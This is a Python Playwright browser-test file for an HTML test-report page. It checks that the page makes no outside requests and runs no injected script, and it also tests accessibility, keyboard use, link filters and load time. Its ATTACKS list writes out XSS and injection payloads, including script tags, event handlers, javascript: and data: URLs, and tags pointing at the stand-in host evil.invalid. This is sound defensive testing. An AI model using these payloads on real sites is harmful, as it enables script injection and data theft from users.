"""The report in a real browser: a Chromium that is installed, never one that is fetched.

Without one these tests are skipped. INTEGRITY_TEST_BROWSER=1 says that it has to be there: a missing one fails them.
"""

from __future__ import annotations

import os
import re
import shutil
from contextlib import contextmanager

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect, sync_playwright

from integrity.report import html
from tests.report.page_sample import big_report, full_of, report_of, unit
from tests.report.sample import CONTROLS, zoo_report

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

IS_REQUIRED = os.environ.get("INTEGRITY_TEST_BROWSER") == "1"
NAMES = ("chromium", "chromium-browser", "google-chrome")
OPENED_WITHIN_MS = 3000
TRIES = 3  # a busy machine is no defect
HIT = "window.hit=1"
ATTACKS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</title></style></textarea></noscript><script>{HIT}</script>",
    f"<!--<script>{HIT}</script>-->",
    f"<img src=x onerror={HIT}>",
    f'"><svg/onload={HIT}>',
    f"' autofocus onfocus={HIT} x='",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "<base href=//evil.invalid/><link rel=stylesheet href=//evil.invalid/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<iframe src=//evil.invalid></iframe><style>@import '//evil.invalid'</style>",
    "<form action=//evil.invalid><input name=outcome><button>",
    "{{constructor.constructor('window.hit=1')()}}${window.hit=1}",
    "__proto__",
    "".join(CONTROLS),
)


@pytest.fixture(scope="module")
def browser():
    """A browser that is on this machine."""
    path = next(filter(None, map(shutil.which, NAMES)), None)
    if path is None:
        without_browser()
    as_root = ["--no-sandbox"] if os.getuid() == 0 else []
    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=path, args=as_root)
        yield found
        found.close()


def without_browser():
    reason = f"none of {', '.join(NAMES)} is on PATH"
    if IS_REQUIRED:
        pytest.fail(f"{reason} (INTEGRITY_TEST_BROWSER=1 requires one)", pytrace=False)
    pytest.skip(reason)


class Opened:
    """The page of a report, and what went on in it that must not."""

    def __init__(self, page, address):
        self.page = page
        self.address = address
        self.requests = []
        self.complaints = []

    def watch(self):
        self.page.context.route("**/*", self._route)
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", lambda dialog: self.complaints.append(dialog.message))
        self.page.add_init_script(
            "window.violations = []; addEventListener('securitypolicyviolation',"
            " (event) => violations.push(event.violatedDirective + ' ' + event.blockedURI))"
        )

    def _route(self, route):
        if route.request.url.partition("#")[0] == self.address:
            route.continue_()
        else:
            self.requests.append(route.request.url)
            route.abort()

    def evils(self):
        """All that must not have happened."""
        return [
            *self.requests,
            *self.complaints,
            *self.page.evaluate("[...violations, ...(window.hit ? ['hit'] : [])]"),
        ]

    def open_all(self):
        self.page.evaluate("for (const details of document.querySelectorAll('details')) details.open = true")
        expect(self.page.locator(".tests:empty")).to_have_count(0)


@pytest.fixture
def opened(browser, tmp_path):
    """Opens the page of a report; `options` are those of the browser's context."""

    @contextmanager
    def opening(report, *, fragment="", **options):
        file = tmp_path / "report.html"
        file.write_bytes(b"".join(part.encode() for part in html.parts(report)))
        with browser.new_context(**options) as context:
            one = Opened(context.new_page(), file.as_uri())
            one.watch()
            one.page.goto(f"{file.as_uri()}{fragment}")
            yield one

    return opening


def visible_units(page):
    return [row.text_content() for row in page.locator("li.unit:visible .who b").all()]


def test_page_needs_nothing_but_itself(opened):
    """With everything opened and every control used, no request leaves the page, and nothing is said in the console."""
    with opened(zoo_report()) as one:
        one.open_all()
        one.page.get_by_role("searchbox").fill("bill")
        one.page.locator("input[value=failed]").check(force=True)
        one.page.locator("button.copy:visible").first.click()
        one.page.emulate_media(media="print")

        assert one.evils() == []


def test_watch_sees_what_must_not_be(opened):
    """The tests here would see a request, an error and a script that is not allowed."""
    with opened(report_of()) as one:
        one.page.evaluate(
            "document.body.append(Object.assign(document.createElement('img'), {src: 'http://evil.invalid/a'}))"
        )
        one.page.evaluate(
            "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hit=1'}))"
        )
        one.page.evaluate("setTimeout(() => { throw new Error('wrong') })")
        one.page.wait_for_function("violations.length >= 2")
        evils = " ".join(one.evils())

        assert "img-src http://evil.invalid/a" in evils
        assert "script-src" in evils
        assert "wrong" in evils


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_becomes_a_program(opened, attack):
    """Whatever stands in every field of a report, nothing of it runs, loads or navigates, also when it is searched for."""
    with opened(full_of(attack)) as one:
        one.open_all()
        one.page.get_by_role("searchbox").fill(attack)
        one.page.get_by_role("searchbox").fill("")
        one.page.locator("a[href^='#unit-']").first.click()
        for link in one.page.locator("main a:visible").all():
            link.hover()

        assert one.evils() == []
        assert one.page.url.startswith(one.address)


def test_failures_can_be_read_without_javascript(opened):
    """Message, place, output and command of each failure are seen, a unit can be opened, and what is missing is said."""
    with opened(zoo_report(), java_script_enabled=False) as one:
        card = one.page.locator("article").first

        for text in ("services/billing/test_integrity.py:31", "rate 'pro' stands twice", "-- billing -- -k test_rates"):
            expect(card.get_by_text(text).first).to_be_visible()
        expect(one.page.locator("article")).to_have_count(6)
        expect(one.page.locator(".filters")).to_be_hidden()
        expect(one.page.locator("button:visible")).to_have_count(0)
        expect(one.page.get_by_text("Without JavaScript")).to_be_visible()
        one.page.locator("#unit-0 > summary").click()
        expect(one.page.locator("#unit-0 .facts")).to_be_visible()
        assert one.requests == []


@pytest.mark.parametrize("width", [1280, 320])
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(
    "report", [zoo_report(), full_of("some text"), big_report(3, 3, failing=0)], ids=["zoo", "full", "green"]
)
def test_page_is_accessible(opened, report, scheme, width):
    """With all opened, axe finds nothing, in light and dark, and nothing is wider than a narrow window."""
    with opened(report, color_scheme=scheme, viewport={"width": width, "height": 800}, bypass_csp=True) as one:
        one.open_all()
        found = Axe().run(one.page).response["violations"]

        assert [(each["id"], [node["html"][:200] for node in each["nodes"][:3]]) for each in found] == []
        assert one.page.evaluate("document.documentElement.scrollWidth") <= width


def test_keyboard_is_enough(opened):
    """Skip link, filters, a unit, and the command of a failure are reached and used by keys alone, each visibly focused."""
    with opened(zoo_report()) as one:
        page = one.page
        page.keyboard.press("Tab")
        expect(page.locator(".skip")).to_be_focused()
        expect(page.locator(".skip")).to_be_in_viewport()
        page.keyboard.press("Enter")
        expect(page.locator("main")).to_be_focused()
        page.keyboard.press("Tab")
        expect(page.get_by_role("searchbox")).to_be_focused()
        page.keyboard.type("billing")
        expect(page.locator(".count")).to_have_text("1 of 8 units")
        page.keyboard.press("Tab")
        expect(page.locator("input[value=failed]")).to_be_focused()
        assert page.evaluate("getComputedStyle(document.activeElement.nextElementSibling).outlineStyle") == "solid"
        page.keyboard.press("Space")
        expect(page.locator("input[value=failed]")).to_be_checked()
        press_until(page, "button.copy")
        page.keyboard.press("Enter")
        expect(page.locator("p.heard")).to_have_text("Copied")
        press_until(page, "#unit-0 > summary")
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
        page.keyboard.press("Enter")
        expect(page.locator("#unit-0 .tests tbody tr")).to_have_count(3)
        page.get_by_role("searchbox").focus()
        page.keyboard.press("ControlOrMeta+A")
        page.keyboard.press("ControlOrMeta+V")
        expect(page.get_by_role("searchbox")).to_have_value("nox -s integrity -- billing -- -k test_rates")


def press_until(page, selector):
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.evaluate("(selector) => document.activeElement.matches(selector)", selector):
            return
    raise AssertionError(f"no {selector} is reached by Tab")


def test_filters_are_kept_in_the_address(opened):
    """Text and outcomes survive a reload and can be sent as a link; clearing shows all again."""
    with opened(zoo_report()) as one:
        page = one.page
        page.get_by_role("searchbox").fill("integrity")
        page.locator("input[value=flaky]").check(force=True)
        page.locator("input[value=lost]").check(force=True)
        shown = visible_units(page)
        page.reload()

        assert sorted(visible_units(page)) == sorted(shown) == ["catalog", "search"]
        assert re.search(r"#text=integrity&outcome=(flaky%2Clost|lost%2Cflaky)$", page.url)
        expect(page.get_by_role("searchbox")).to_have_value("integrity")
        expect(page.locator(".count")).to_have_text("2 of 8 units")
        page.get_by_role("button", name="Clear").click()
        assert len(visible_units(page)) == 8
        page.reload()
        assert len(visible_units(page)) == 8


def test_address_may_hold_anything(opened):
    """An address that says nothing known shows all units; one that names a part of the page leads there."""
    with opened(zoo_report(), fragment="#outcome=%00,<b>&x&text") as one:
        assert len(visible_units(one.page)) == 8
        one.page.goto(f"{one.address}#unit-3")
        expect(one.page.locator("#unit-3 .facts")).to_be_in_viewport()
        assert one.evils() == []


def test_search_finds_tests_and_messages(opened):
    """A unit is found by the tests in it and by what its failures say; in it, only the tests that were meant are shown."""
    with opened(zoo_report()) as one:
        page = one.page
        page.get_by_role("searchbox").fill("STANDS TWICE")
        assert visible_units(page) == ["billing"]
        page.get_by_role("searchbox").fill("test_routes")
        assert visible_units(page) == ["billing"]
        page.locator("#unit-0 > summary").click()
        expect(page.locator(".tests tbody tr:visible")).to_have_text([re.compile("test_routes")])
        page.get_by_role("searchbox").fill("nowhere")
        expect(page.get_by_text("No unit matches the filter.")).to_be_visible()


def test_link_to_a_unit_leads_through_the_filter(opened):
    """Following a link to a unit that is filtered out shows it, opened and focused, also after a reload."""
    with opened(big_report(30, 3)) as one:
        page = one.page
        page.get_by_role("searchbox").fill("service-003")
        link = page.locator(".slowest a, section[aria-labelledby=slowest] a").last
        target = link.get_attribute("href")
        link.click()

        expect(page.locator(f"{target} > summary")).to_be_focused()
        expect(page.locator(f"{target} .tests tbody tr")).to_have_count(3)
        page.reload()
        expect(page.locator(f"{target} > summary")).to_be_in_viewport()


def test_page_prints_its_failures(opened):
    """On paper there are no controls, and the failures stand as on the screen."""
    with opened(zoo_report()) as one:
        one.page.emulate_media(media="print")

        expect(one.page.locator(".filters, button.copy, nav").locator("visible=true")).to_have_count(0)
        expect(one.page.locator("article").first.get_by_text("rate 'pro' stands twice").first).to_be_visible()


def test_large_report_opens_soon(opened):
    """500 units of 200 tests are there in less than three seconds, and filters and units answer."""
    with opened(big_report(500, 200)) as one:
        page = one.page
        tries = []
        while len(tries) < TRIES and (not tries or min(tries) >= OPENED_WITHIN_MS):
            page.reload()
            tries.append(page.evaluate("performance.getEntriesByType('navigation')[0].loadEventEnd"))
        page.get_by_role("searchbox").fill("service-499")
        expect(page.locator(".count")).to_have_text("1 of 500 units")
        page.locator("#unit-499 > summary").click()

        expect(page.locator("#unit-499 .tests tbody tr")).to_have_count(200)
        assert min(tries) < OPENED_WITHIN_MS
        assert one.evils() == []


def test_rows_of_a_unit_are_made_when_it_is_opened(opened):
    """Until then there are none, so that a large page opens at once; opening it again makes no second table."""
    with opened(report_of(unit("a", tests=zoo_report().units[0].tests))) as one:
        summary = one.page.locator("#unit-0 > summary")
        assert one.page.locator(".tests tbody tr").count() == 0
        summary.click()
        expect(one.page.locator(".tests tbody tr")).not_to_have_count(0)
        summary.click()
        summary.click()
        expect(one.page.locator(".tests table")).to_have_count(1)
